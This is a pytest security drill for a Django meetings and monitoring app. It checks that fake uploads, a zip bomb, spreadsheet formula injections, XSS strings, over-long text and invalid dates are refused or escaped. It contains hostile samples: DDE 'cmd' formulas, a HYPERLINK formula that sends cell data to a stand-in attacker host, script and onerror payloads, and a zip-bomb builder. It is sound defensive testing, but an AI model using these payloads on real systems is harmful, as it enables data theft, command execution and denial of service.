"""Drill (issue #10): input that is not what it claims, through the web forms and the API.

Uploads: a Windows executable renamed .pdf, a 50 MB file, an .xlsx zip bomb, formulas in
the cells of an imported workbook. Text: over-long strings, invalid dates, HTML/JS in every
text field a person types in a progress report row, a meeting, an agreement and a motion.
Each case must end in a clear error (a form error or a 400 with a message) or in safe
storage (kept literally, shown escaped in the pages and the PDFs, never run as a formula),
never in a 500: the test client raises any server error, so a 500 fails the test."""

from __future__ import annotations

import csv
import io
import re
import time
import tracemalloc
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from django.utils.html import escape
from openpyxl import load_workbook
from pypdf import PdfReader

from common import validators
from common.tabular import XLSX_TYPE
from meetings import services as meeting_services
from meetings.models import (
    AgendaItem,
    Agreement,
    AgreementFollowUp,
    Attendance,
    CountryReport,
    Meeting,
    MeetingDocument,
    Minutes,
    Motion,
)
from meetings.tests.factories import AgreementFactory, MeetingFactory
from members.models import Designation
from members.tests.factories import DesignationFactory, PersonFactory
from monitoring import excel, selectors
from monitoring.models import Evidence, ProgressEntry, ProgressReport
from monitoring.tests.factories import DUE, open_period, report_of, small_poa
from plans import services as plan_services

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
RAW_MARKERS = ("<script>alert(1)", "<img src=x onerror")


def payload(field: str) -> str:
    """HTML/JS typed into one field, named so each field can be found where it is shown."""
    return f"{field}: {SCRIPT} {IMG}"


def shown(message, /, **params) -> str:
    """A service or validator message as the pages show it (Spanish, the default
    language; HTML-escaped)."""
    with translation.override(settings.LANGUAGE_CODE):
        text = str(message)
    return escape(text % params if params else text)


def media_files() -> list[str]:
    root = Path(settings.MEDIA_ROOT)
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def html(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.content.decode()


# --- The world: a report, a meeting in session, an agreement, a designation ---------------


@pytest.fixture
def world(coalition, st_user, presidency_user, focal_point_hn):
    poa = small_poa()
    period = open_period(st_user, poa)
    report = report_of(period, coalition["HN"])
    meeting = MeetingFactory(status=Meeting.Status.IN_SESSION)
    alternate = DesignationFactory(national_body=coalition["HN"], role=Designation.Role.ALTERNATE)
    attendance = meeting_services.attendance_record(
        user=st_user, meeting=meeting, person=alternate.person, capacity="alternate"
    )
    agreement = AgreementFactory(meeting=meeting)
    return {
        "coalition": coalition,
        "st": st_user,
        "presidency": presidency_user,
        "fp": focal_point_hn,
        "period": period,
        "report": report,
        "entry": report.entries.order_by("pk").first(),
        "meeting": meeting,
        "designation": alternate,
        "attendance": attendance,
        "agreement": agreement,
        "person": PersonFactory(country=coalition["HN"].country),
    }


# --- Uploads that are not what they claim -------------------------------------------------
#
# Every upload endpoint of the web: (who, url, form data, file field, what must not change).


def _endpoints(w) -> dict:
    fp, st, presidency = w["fp"], w["st"], w["presidency"]
    meeting, attendance = w["meeting"], w["attendance"]
    endpoints = {  # URL name: (who, the URL's arguments, form data, file field, count)
        "members:designation-letter": (
            fp,
            [w["designation"].pk],
            # the version the form was read at (issue 23: no lost updates)
            {"version": Designation.objects.get(pk=w["designation"].pk).version},
            "letter",
            lambda: Designation.objects.exclude(accreditation_letter="").count(),
        ),
        "members:designation-create": (
            fp,
            [w["coalition"]["HN"].acronym],
            {"person": w["person"].pk, "role": "alternate", "start_date": "2025-01-01"},
            "accreditation_letter",
            Designation.objects.count,
        ),
        "meetings:document-upload": (
            presidency,
            [meeting.pk],
            {"title": "Informe de gestión"},
            "file",
            MeetingDocument.objects.count,
        ),
        "meetings:attendance": (
            st,
            [meeting.pk],
            {
                "person": DesignationFactory(
                    national_body=w["coalition"]["GT"], role=Designation.Role.ALTERNATE
                ).person.pk,
                "capacity": "alternate",
                "accredited_for_meeting": "on",
            },
            "accreditation_file",
            Attendance.objects.count,
        ),
        "meetings:attendance-accredit": (
            st,
            [attendance.pk],
            {},
            "accreditation_file",
            lambda: Attendance.objects.filter(accredited_for_meeting=True).count(),
        ),
        "meetings:country-report": (
            fp,
            [meeting.pk],
            {"text": ""},
            "file",
            CountryReport.objects.count,
        ),
        "meetings:agreement-detail": (
            st,
            [w["agreement"].pk],
            {"date": "2026-03-10", "note": "Avance", "new_status": ""},
            "evidence",
            AgreementFollowUp.objects.count,
        ),
        "monitoring:evidence-add": (
            fp,
            [w["entry"].pk],
            {"description": "Acta", "url": "", "change_reason": ""},
            "file",
            Evidence.objects.count,
        ),
    }
    return {
        name: (user, reverse(name, args=args), data, field, count)
        for name, (user, args, data, field, count) in endpoints.items()
    }


ENDPOINTS = [
    "members:designation-letter",
    "members:designation-create",
    "meetings:document-upload",
    "meetings:attendance",
    "meetings:attendance-accredit",
    "meetings:country-report",
    "meetings:agreement-detail",
    "monitoring:evidence-add",
]

BIG = b"%PDF-1.4\n" + bytes(50 * MB)
BAD_FILES = {
    "exe-renamed-pdf": (
        lambda: SimpleUploadedFile("carta.pdf", EXE, "application/pdf"),
        validators.FILE_WRONG_TYPE,
        {},
    ),
    "50MB-pdf": (
        lambda: SimpleUploadedFile("carta.pdf", BIG, "application/pdf"),
        validators.FILE_TOO_LARGE,
        {"max": settings.UPLOAD_MAX_MB},
    ),
}


@pytest.mark.parametrize("bad", list(BAD_FILES))
@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_an_upload_that_is_not_what_it_claims_is_refused_with_a_clear_error(world, endpoint, bad):
    user, url, data, field, count = _endpoints(world)[endpoint]
    make_file, message, params = BAD_FILES[bad]
    before = (count(), media_files())
    response = logged_in(user).post(url, {**data, field: make_file()}, follow=True)
    assert shown(message, **params) in html(response), f"{endpoint}: no clear error"
    assert (count(), media_files()) == before, f"{endpoint}: something was stored"


def test_the_same_endpoints_accept_a_real_pdf(world):
    """Control: each endpoint stores a genuine PDF, so the refusals above are the checks
    at work and not a broken form."""
    for endpoint in ENDPOINTS:
        user, url, data, field, count = _endpoints(world)[endpoint]
        before = count()
        upload = SimpleUploadedFile("carta.pdf", PDF, "application/pdf")
        response = logged_in(user).post(url, {**data, field: upload}, follow=True)
        assert response.status_code == 200
        assert count() == before + 1, endpoint


# --- The Excel import: not a workbook, too big, a zip bomb, formulas, odd numbers ---------


def _workbook(report: ProgressReport):
    return load_workbook(BytesIO(excel.report_workbook(selectors.report_detail(pk=report.pk))))


def _xlsx(wb) -> bytes:
    buffer = BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _import(world, content: bytes, name: str = "informe.xlsx"):
    url = reverse("monitoring:report-import", args=[world["report"].pk])
    upload = SimpleUploadedFile(name, content, XLSX_TYPE)
    return logged_in(world["fp"]).post(url, {"file": upload, "change_reason": ""})


def _entries(report) -> list[tuple]:
    return list(
        ProgressEntry.objects.filter(report=report)
        .order_by("pk")
        .values_list("progress", "goal_status", "justification")
    )


def zip_bomb(valid: bytes, unpacked_mb: int) -> bytes:
    """The report's own workbook whose sheet carries, in a cell far right of the table, an
    inline string of `unpacked_mb` MB: small on disk, hundreds of MB once opened."""
    out = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(valid)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst,
    ):
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED)
                continue
            head, tail = data.split(b"</sheetData>")
            member = zipfile.ZipInfo(info.filename, info.date_time)
            member.compress_type = zipfile.ZIP_DEFLATED
            with dst.open(member, "w", force_zip64=True) as sheet:
                sheet.write(head + b'<row r="900"><c r="Z900" t="inlineStr"><is><t>')
                chunk = b"A" * MB
                for _ in range(unpacked_mb):
                    sheet.write(chunk)
                sheet.write(b"</t></is></c></row></sheetData>" + tail)
    return out.getvalue()


def test_import_refuses_an_executable_renamed_xlsx(world):
    before = _entries(world["report"])
    response = _import(world, EXE, "informe.xlsx")
    assert shown(excel.FILE_UNREADABLE) in html(response)
    assert _entries(world["report"]) == before


def test_import_refuses_a_50_mb_file(world):
    before = _entries(world["report"])
    response = _import(world, b"PK\x03\x04" + bytes(50 * MB))
    assert shown(validators.FILE_TOO_LARGE, max=settings.UPLOAD_MAX_MB) in html(response)
    assert _entries(world["report"]) == before


def test_import_refuses_a_zip_bomb_without_unpacking_it(world, capsys):
    """300 MB once unpacked, a few hundred KB on disk: refused from the archive's own
    directory, before any sheet is parsed (bounded time and memory)."""
    report = world["report"]
    wb = _workbook(report)
    wb[excel.SHEET][f"H{excel.FIRST_ROW}"] = 60
    bomb = zip_bomb(_xlsx(wb), unpacked_mb=300)
    unpacked = sum(i.file_size for i in zipfile.ZipFile(BytesIO(bomb)).infolist())
    assert len(bomb) < 2 * MB and unpacked > 300 * MB
    before = _entries(report)
    tracemalloc.start()
    start = time.perf_counter()
    response = _import(world, bomb)
    seconds = time.perf_counter() - start
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert shown(excel.FILE_UNPACKS_TOO_LARGE, max=excel.MAX_UNPACKED_MB) in html(response)
    assert _entries(report) == before
    assert peak < 50 * MB, f"peak {peak / MB:.0f} MB while refusing a zip bomb"
    with capsys.disabled():
        print(
            f"\n[drill] zip bomb {len(bomb) / 1024:.0f} KB → {unpacked / MB:.0f} MB unpacked: "
            f"refused in {seconds:.2f} s, peak {peak / MB:.1f} MB"
        )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Ver")',
    "=cmd|' /C calc'!A0",
    "=1+1",
]
# Text a spreadsheet would run as a formula if written unescaped to CSV/XLSX.
INJECTIONS = ["+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_import_refuses_formulas_with_the_cell_named(world, formula):
    """A formula (as a formula cell) in an editable column is refused, naming its row and
    column; nothing is saved and nothing is evaluated."""
    report = world["report"]
    wb = _workbook(report)
    ws = wb[excel.SHEET]
    ws[f"H{excel.FIRST_ROW}"] = 60
    ws[f"J{excel.FIRST_ROW}"] = formula
    assert ws[f"J{excel.FIRST_ROW}"].data_type == "f"
    before = _entries(report)
    page = html(_import(world, _xlsx(wb)))
    cell = shown(
        excel.CELL_ERROR,
        row=excel.FIRST_ROW,
        column="J",
        message=shown(excel.FORMULA_NOT_ALLOWED),
    )
    assert cell in page
    assert _entries(report) == before


def test_import_refuses_a_formula_typed_as_text(world):
    """The same formula in a text cell (t="s"/inlineStr, as other programs write it)."""
    report = world["report"]
    wb = _workbook(report)
    ws = wb[excel.SHEET]
    ws[f"H{excel.FIRST_ROW}"] = 60
    ws[f"J{excel.FIRST_ROW}"] = "x"
    ws[f"J{excel.FIRST_ROW}"].value = FORMULAS[0]
    ws[f"J{excel.FIRST_ROW}"].data_type = "s"
    before = _entries(report)
    page = html(_import(world, _xlsx(wb)))
    assert shown(excel.FORMULA_NOT_ALLOWED) in page
    assert _entries(report) == before


def test_injection_text_is_stored_literally_and_escaped_on_every_export(world):
    """Text beginning with + - @ is not a formula for the import: it is stored as typed,
    and every export (the workbook, the CSV, the agreements register) writes it so that
    no spreadsheet runs it."""
    report, fp = world["report"], world["fp"]
    wb = _workbook(report)
    ws = wb[excel.SHEET]
    rows = [excel.FIRST_ROW, excel.FIRST_ROW + 1]
    texts = {rows[0]: INJECTIONS[0], rows[1]: INJECTIONS[1]}
    for n in rows:
        ws[f"H{n}"] = 60
        ws[f"J{n}"] = texts[n]
        ws[f"K{n}"] = INJECTIONS[2]
    assert all(ws[f"J{n}"].data_type == "s" for n in rows)
    response = _import(world, _xlsx(wb))
    assert response.status_code == 302, response.content.decode()[:2000]
    stored = set(report.entries.values_list("justification", flat=True))
    assert stored == set(texts.values())
    assert set(report.entries.values_list("status_override_reason", flat=True)) == {INJECTIONS[2]}
    client = logged_in(fp)
    # The workbook: text cells only, each starting with the apostrophe that keeps it text.
    export = client.get(reverse("monitoring:report-export", args=[report.pk]))
    ws = load_workbook(BytesIO(export.content))[excel.SHEET]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    exported = {ws[f"J{n}"].value for n in rows}
    assert exported == {"'" + t for t in texts.values()}
    # ...and the round trip gives the same text back (the apostrophe is not kept).
    again = _import(world, export.content)
    assert again.status_code == 302
    assert set(report.entries.values_list("justification", flat=True)) == stored
    # The CSV: no field starts with a formula character.
    csv_export = client.get(reverse("monitoring:report-export", args=[report.pk]) + "?format=csv")
    fields = [
        f for row in csv.reader(io.StringIO(csv_export.content.decode("utf-8-sig"))) for f in row
    ]
    assert {"'" + t for t in texts.values()} <= set(fields)
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@")]
    # The agreements register, CSV and XLSX.
    Agreement.objects.filter(pk=world["agreement"].pk).update(text=FORMULAS[0])
    st = logged_in(world["st"])
    register = st.get(reverse("meetings:agreements") + "?format=xlsx")
    sheet = load_workbook(BytesIO(register.content)).active
    values = [c for row in sheet.iter_rows() for c in row if c.value]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    assert "'" + FORMULAS[0] in {c.value for c in values}
    register_csv = st.get(reverse("meetings:agreements") + "?format=csv").content.decode(
        "utf-8-sig"
    )
    fields = [f for row in csv.reader(io.StringIO(register_csv)) for f in row]
    assert "'" + FORMULAS[0] in fields
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize(
    "value", ["inf", "-inf", "NaN", "1e999", "cien", "50.5", "", "1" * 400, "2019-01-01"]
)
def test_import_of_odd_numbers_gives_a_cell_error(world, value):
    """Numbers a person (or a program) may type: refused with the cell named, or (empty)
    left unfilled, never a server error."""
    report = world["report"]
    wb = _workbook(report)
    ws = wb[excel.SHEET]
    ws[f"H{excel.FIRST_ROW}"] = value
    ws[f"H{excel.FIRST_ROW}"].data_type = "s"
    before = _entries(report)
    response = _import(world, _xlsx(wb))
    if value == "":
        assert response.status_code == 302
        return
    page = html(response)
    assert re.search(rf"{excel.FIRST_ROW}.{{1,40}}H", page), "no cell named"
    assert _entries(report) == before


# --- HTML/JS in every text field: kept literally, shown escaped, printed as text ----------


SHORTENED = {"evidence-description"}  # the evidence link shows 40 characters


def assert_escaped(pages: dict[str, str], fields: list[str]) -> dict[str, list[str]]:
    """No page carries the markup raw; each field's text appears escaped on some page.
    Returns where each field was found."""
    for name, page in pages.items():
        for marker in RAW_MARKERS:
            assert marker not in page, f"{name}: {marker!r} rendered unescaped"
    # Some pages shorten a text (truncatechars): its escaped beginning must be there.
    shown_as = {f: escape(payload(f)[:30] if f in SHORTENED else payload(f)) for f in fields}
    found = {f: [name for name, page in pages.items() if shown_as[f] in page] for f in fields}
    missing = [f for f, where in found.items() if not where]
    assert missing == [], f"fields not shown on any page: {missing}"
    return found


def pdf_text(response) -> str:
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(BytesIO(response.content)).pages)
    return "".join(text.split())  # pypdf splits some kerned pairs and wraps long lines


def assert_printed(text: str, fields: list[str]) -> None:
    """The literal markup is in the PDF's text: it was printed, not interpreted."""
    missing = [f for f in fields if "".join(payload(f).split()) not in text]
    assert missing == [], f"fields not printed literally in the PDF: {missing}"


REPORT_FIELDS = [
    "justification",
    "status-reason",
    "decrease-reason",
    "evidence-description",
    "review-comment",
]


def test_html_in_a_progress_report_is_escaped_in_pages_pdf_and_api(world, fp_hn_api):
    fp, st, report = world["fp"], world["st"], world["report"]
    client = logged_in(fp)
    rows = list(report.entries.order_by("pk"))
    data = {
        "rows-TOTAL_FORMS": len(rows),
        "rows-INITIAL_FORMS": len(rows),
        "version": report.version,
        "change_reason": "",
    }
    for i, entry in enumerate(rows):
        data |= {
            f"rows-{i}-activity": entry.activity_id,
            f"rows-{i}-progress": 40,  # below the 50% planned: justification needed
            f"rows-{i}-goal_status": "in_progress",  # not the suggested one: reason needed
            f"rows-{i}-justification": payload("justification"),
            f"rows-{i}-status_override_reason": payload("status-reason"),
            f"rows-{i}-decrease_reason": payload("decrease-reason"),
        }
    edit = reverse("monitoring:report-edit", args=[report.pk])
    assert client.post(edit, data).status_code == 302
    evidence = reverse("monitoring:evidence-add", args=[rows[0].pk])
    response = client.post(
        evidence,
        {"url": "https://example.org/acta", "description": payload("evidence-description")},
    )
    assert response.status_code == 302
    report.refresh_from_db()
    client.post(reverse("monitoring:report-submit", args=[report.pk]), {"version": report.version})
    report.refresh_from_db()
    assert report.status == ProgressReport.Status.SUBMITTED
    logged_in(st).post(
        reverse("monitoring:report-review", args=[report.pk]),
        {"version": report.version, "decision": "return", "comment": payload("review-comment")},
    )
    report.refresh_from_db()
    assert report.status == ProgressReport.Status.RETURNED
    # Stored literally (safe storage is not sanitising).
    entry = ProgressEntry.objects.get(pk=rows[0].pk)
    assert entry.justification == payload("justification")
    assert report.review_comment == payload("review-comment")
    pages = {
        name: html(client.get(reverse(f"monitoring:{name}", args=[pk])))
        for name, pk in [
            ("report-detail", report.pk),
            ("report-edit", report.pk),
            ("report-history", report.pk),
            ("evidence-add", rows[0].pk),
        ]
    }
    pages["inbox"] = html(logged_in(st).get(reverse("monitoring:inbox")))
    assert_escaped(pages, REPORT_FIELDS)
    text = pdf_text(client.get(reverse("reports:progress-report-pdf", args=[report.pk])))
    assert_printed(text, ["justification"])  # the §IX form prints this one text column
    # The API returns the text as JSON data, never as HTML.
    api = fp_hn_api.get(f"/api/v1/progress-reports/{report.pk}/")
    assert api.status_code == 200 and api["Content-Type"].startswith("application/json")
    row = next(e for e in api.json()["entries"] if e["justification"])
    assert row["justification"] == payload("justification")


MEETING_FIELDS = [
    "title",
    "city",
    "agenda-title",
    "presenter",
    "motion",
    "reservation",
    "agreement",
    "follow-up",
    "country-report",
    "document",
    "narrative",
    "comment",
]
# Stored but shown on no page of the site (the admin only): checked stored literally.
STORED_ONLY = ["agenda-description", "accreditation"]
MINUTES_PDF_FIELDS = [
    "title",
    "city",
    "agenda-title",
    "presenter",
    "motion",
    "reservation",
    "agreement",
    "narrative",
]


def test_html_in_a_meeting_agreement_and_motion_is_escaped_in_pages_and_pdf(world):
    """Every text a person types about a meeting, through the web forms: the meeting, its
    agenda, a motion decided by consensus with a reservation, the agreement it became and
    its follow-up, a country report, a document, an accreditation, the minutes."""
    coalition, st, presidency, fp = (
        world["coalition"],
        world["st"],
        world["presidency"],
        world["fp"],
    )
    steer, sec = logged_in(presidency), logged_in(st)
    response = steer.post(
        reverse("meetings:create"),
        {
            "kind": "ordinary",
            "title": payload("title"),
            "starts_at": "2026-05-10T09:00",
            "ends_at": "2026-05-10T17:00",
            "city": payload("city"),
            "modality": "in_person",
        },
    )
    assert response.status_code == 302, response.context["form"].errors
    meeting = Meeting.objects.get(title=payload("title"))
    # Convening needs business beyond the opening items (meetings.rules.agenda_empty_refusal).
    meeting_services.agenda_item_create(user=presidency, meeting=meeting, title="Plan de trabajo")
    meeting_services.meeting_convene(user=presidency, meeting=meeting)
    meeting_services.meeting_transition(user=presidency, meeting=meeting, to="in_session")
    for iso in sorted(coalition)[:5]:
        titular = DesignationFactory(national_body=coalition[iso], role=Designation.Role.TITULAR)
        meeting_services.attendance_record(
            user=st, meeting=meeting, person=titular.person, capacity="titular"
        )
    alternate = DesignationFactory(national_body=coalition["PA"], role=Designation.Role.ALTERNATE)
    sec.post(
        reverse("meetings:attendance", args=[meeting.pk]),
        {
            "person": alternate.person.pk,
            "capacity": "alternate",
            "accredited_for_meeting": "on",
            "accreditation_note": payload("accreditation"),
        },
    )
    assert Attendance.objects.filter(accreditation_note=payload("accreditation")).exists()
    steer.post(
        reverse("meetings:agenda-item-create", args=[meeting.pk]),
        {
            "title": payload("agenda-title"),
            "kind": "decision",
            "presenter": payload("presenter"),
            "description": payload("agenda-description"),
        },
    )
    item = AgendaItem.objects.get(title=payload("agenda-title"))
    steer.post(
        reverse("meetings:motion-create", args=[meeting.pk]),
        {
            "agenda_item": item.pk,
            "text": payload("motion"),
            "decision_method": "consensus",
            "majority_rule": "simple",
        },
    )
    motion = Motion.objects.get(text=payload("motion"))
    steer.post(
        reverse("meetings:motion-action", args=[motion.pk, "consensus"]),
        # A reservation comes from a country represented at the meeting (meetings.rules).
        {"reservations": f"GT: {payload('reservation')}"},
    )
    agreement = Agreement.objects.get(motion=motion)
    response = sec.post(
        reverse("meetings:agreement-edit", args=[agreement.pk]),
        {
            "version": agreement.version,
            "text": payload("agreement"),
            "responsible_bodies": [coalition["HN"].pk],
            "due_date": "2026-12-31",
            "status": "pending",
        },
    )
    assert response.status_code == 302
    response = sec.post(
        reverse("meetings:agreement-detail", args=[agreement.pk]),
        {"date": "2026-05-10", "note": payload("follow-up"), "new_status": ""},
    )
    assert response.status_code == 302
    logged_in(fp).post(
        reverse("meetings:country-report", args=[meeting.pk]), {"text": payload("country-report")}
    )
    steer.post(
        reverse("meetings:document-upload", args=[meeting.pk]),
        {
            "title": payload("document"),
            "file": SimpleUploadedFile("informe.pdf", PDF, "application/pdf"),
        },
    )
    sec.post(reverse("meetings:minutes-generate", args=[meeting.pk]))
    minutes_url = reverse("meetings:minutes", args=[meeting.pk])
    sec.post(minutes_url, {"action": "narrative", "narrative": payload("narrative")})
    sec.post(minutes_url, {"action": "circulate"})
    sec.post(minutes_url, {"action": "comment", "text": payload("comment")})
    minutes = Minutes.objects.get(meeting=meeting)
    assert minutes.state == Minutes.State.CIRCULATED
    assert minutes.narrative == payload("narrative")
    assert minutes.comments.get().text == payload("comment")
    pages = {
        "detail": html(sec.get(reverse("meetings:detail", args=[meeting.pk]))),
        "list": html(sec.get(reverse("meetings:list"))),
        "vote": html(sec.get(reverse("meetings:vote", args=[motion.pk]))),
        "agreements": html(sec.get(reverse("meetings:agreements"))),
        "agreement": html(sec.get(reverse("meetings:agreement-detail", args=[agreement.pk]))),
        "minutes": html(sec.get(minutes_url)),
        "archive": html(sec.get(reverse("meetings:minutes-archive"))),
        "agreement-edit": html(sec.get(reverse("meetings:agreement-edit", args=[agreement.pk]))),
        "delegate-view": html(logged_in(fp).get(reverse("meetings:detail", args=[meeting.pk]))),
    }
    assert_escaped(pages, MEETING_FIELDS)
    item.refresh_from_db()
    assert item.description == payload("agenda-description")
    text = pdf_text(sec.get(reverse("meetings:minutes-pdf", args=[meeting.pk])))
    assert_printed(text, MINUTES_PDF_FIELDS)


# --- Over-long strings and invalid dates through the web forms ----------------------------


def _form_errors(response) -> dict:
    """The errors of the form the page redisplays (status 200: not saved)."""
    assert response.status_code == 200, response.status_code
    form = response.context["form"]
    return {name: [str(m) for m in messages] for name, messages in form.errors.items()}


def _meeting_data(**overrides) -> dict:
    return {
        "kind": "ordinary",
        "title": "XVI Reunión Ordinaria",
        "starts_at": "2026-05-10T09:00",
        "ends_at": "2026-05-10T17:00",
        "city": "Tegucigalpa",
        "modality": "in_person",
    } | overrides


MEETING_CASES = {
    "title-251": ({"title": "T" * 251}, "title"),
    "city-121": ({"city": "C" * 121}, "city"),
    "link-javascript": ({"link": "javascript:alert(1)"}, "link"),
    "starts-feb-30": ({"starts_at": "2026-02-30T09:00"}, "starts_at"),
    "starts-garbage": ({"starts_at": "mañana"}, "starts_at"),
    "starts-year-0": ({"starts_at": "0000-01-01T09:00"}, "starts_at"),
    "starts-year-10000": ({"starts_at": "10000-01-01T09:00"}, "starts_at"),
    "number-huge": ({"number": "9" * 30}, "number"),
}


@pytest.mark.parametrize("case", list(MEETING_CASES))
def test_meeting_form_refuses_bad_values_with_a_field_error(world, case):
    values, field = MEETING_CASES[case]
    before = Meeting.objects.count()
    response = logged_in(world["presidency"]).post(
        reverse("meetings:create"), _meeting_data(**values)
    )
    errors = _form_errors(response)
    assert field in errors or "__all__" in errors, errors
    assert Meeting.objects.count() == before


@pytest.mark.parametrize(
    "starts, ends",
    [
        ("9999-12-31T22:00", "9999-12-31T23:59"),  # UTC is 6 h later: year 10000
        ("2026-05-10T17:00", "2026-05-10T09:00"),  # ends before it starts
    ],
    ids=["end-of-calendar", "ends-before-start"],
)
def test_meeting_dates_at_the_edge_give_a_form_error(world, starts, ends):
    before = Meeting.objects.count()
    response = logged_in(world["presidency"]).post(
        reverse("meetings:create"), _meeting_data(starts_at=starts, ends_at=ends)
    )
    assert _form_errors(response)
    assert Meeting.objects.count() == before


def test_other_forms_refuse_over_long_text_and_invalid_dates(world):
    """One bad value per form; each comes back as an error of its field."""
    st, presidency, fp = (logged_in(world[who]) for who in ("st", "presidency", "fp"))
    meeting, agreement, designation = world["meeting"], world["agreement"], world["designation"]
    # (who posts, the form's URL)
    agenda = presidency, reverse("meetings:agenda-item-create", args=[meeting.pk])
    document = presidency, reverse("meetings:document-upload", args=[meeting.pk])
    agreement_edit = st, reverse("meetings:agreement-edit", args=[agreement.pk])
    follow_up = st, reverse("meetings:agreement-detail", args=[agreement.pk])
    evidence = fp, reverse("monitoring:evidence-add", args=[world["entry"].pk])
    revoke = fp, reverse("members:designation-revoke", args=[designation.pk])
    designate = fp, reverse("members:designation-create", args=[world["coalition"]["HN"].acronym])
    person = fp, reverse("members:person-create")
    item = {"title": "Informe", "kind": "decision"}
    pending = {"text": "Acuerdo", "status": "pending"}
    ana = {"first_name": "Ana", "last_name": "Pérez", "language": "es"}
    pdf = SimpleUploadedFile("a.pdf", PDF, "application/pdf")
    cases = [  # (client, url, the form's data, the field in error)
        (*agenda, {**item, "title": "T" * 301}, "title"),
        (*agenda, {**item, "presenter": "P" * 201}, "presenter"),
        (*agenda, {**item, "duration_minutes": "-5"}, "duration_minutes"),
        (*document, {"title": "T" * 251, "file": pdf}, "title"),
        (*agreement_edit, {**pending, "due_date": "2026-13-01"}, "due_date"),
        (*agreement_edit, {**pending, "due_date": "31/02/2026"}, "due_date"),
        (*follow_up, {"date": "2026-02-30", "note": "Avance"}, "date"),
        (*evidence, {"url": "https://example.org/a", "description": "D" * 301}, "description"),
        (*evidence, {"url": "javascript:alert(1)"}, "url"),
        (*revoke, {"revoked_on": "2026-02-30", "reason": "Cambio"}, "revoked_on"),
        (*revoke, {"revoked_on": "2026-02-01", "reason": "R" * 301}, "reason"),
        (
            *designate,
            {"person": world["person"].pk, "role": "alternate", "start_date": "2025-02-29"},
            "start_date",
        ),
        (*person, {**ana, "first_name": "N" * 1000}, "first_name"),
        (*person, {**ana, "email": "<script>@x"}, "email"),
    ]
    before = snapshot_counts()
    for client, url, data, field in cases:
        errors = _form_errors(client.post(url, data))
        assert field in errors, (url, data, errors)
    assert snapshot_counts() == before


def snapshot_counts() -> dict:
    from django.apps import apps

    return {m._meta.label: m._base_manager.count() for m in apps.get_models()}


def test_period_due_date_that_does_not_exist_is_refused(world):
    period = world["period"]
    response = logged_in(world["st"]).post(
        reverse("monitoring:period-due", args=[period.pk]), {"due_on": "2019-02-29"}, follow=True
    )
    assert response.status_code == 200
    period.refresh_from_db()
    assert period.due_on == DUE


def test_report_form_refuses_bad_figures_per_row_and_keeps_long_text(world):
    """Progress that is not a number or out of range: an error on the row's field; a very
    long justification (100,000 characters) is stored whole; a body beyond the request
    size limit is a 400."""
    fp, report = world["fp"], world["report"]
    client = logged_in(fp)
    rows = list(report.entries.order_by("pk"))
    url = reverse("monitoring:report-edit", args=[report.pk])

    def post(progress, justification="Sin fondos", version=None):
        data = {
            "rows-TOTAL_FORMS": len(rows),
            "rows-INITIAL_FORMS": len(rows),
            "version": report.version if version is None else version,
        }
        for i, entry in enumerate(rows):
            data |= {
                f"rows-{i}-activity": entry.activity_id,
                f"rows-{i}-progress": progress,
                f"rows-{i}-justification": justification,
            }
        return client.post(url, data)

    for bad in ("cien", "1e3", "-1", "101", "9" * 40):
        response = post(bad)
        assert response.status_code == 200, bad
        formset = response.context["formset"]
        assert formset.forms[0].errors.get("progress") or response.context["meta"].errors, bad
        report.refresh_from_db()
        assert report.entries.filter(progress__isnull=False).count() == 0, bad
    response = post(60, version="abc")
    assert response.status_code == 200
    long_text = "Texto largo. " * 7700  # 100,100 characters
    assert post(40, justification=long_text).status_code == 302
    assert ProgressEntry.objects.get(pk=rows[0].pk).justification == long_text.strip()
    assert html(client.get(reverse("monitoring:report-detail", args=[report.pk])))
    report.refresh_from_db()
    too_big = post(40, justification="x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1))
    assert too_big.status_code == 400


# --- Bad query strings and ids in URLs ----------------------------------------------------

BAD_QUERIES = [
    "?year=99999",
    "?year=-1",
    "?year=" + "9" * 30,
    "?page=" + "9" * 30,
    "?page=abc",
    "?due_after=2026-02-30",
    "?due_before=0000-00-00",
    "?status=<script>alert(1)</script>",
    "?format=exe",
    "?poa=abc",
    "?period=-1",
    "?country=" + "X" * 300,
    "?axis=" + "9" * 30,
    "?body=abc",
    "?meeting=" + "9" * 30,
]


@pytest.mark.parametrize(
    "name",
    [
        "meetings:list",
        "meetings:agreements",
        "meetings:minutes-archive",
        "monitoring:dashboard",
        "monitoring:period-list",
        "monitoring:inbox",
        "reports:job-list",
        "members:person-list",
        "plans:overview",
        "indicators:list",
        "home",
    ],
)
def test_list_pages_survive_bad_query_strings(world, name):
    """Filters given nonsense show the page (or a 400/404), never a server error."""
    client = logged_in(world["st"])
    url = reverse(name)
    statuses = {}
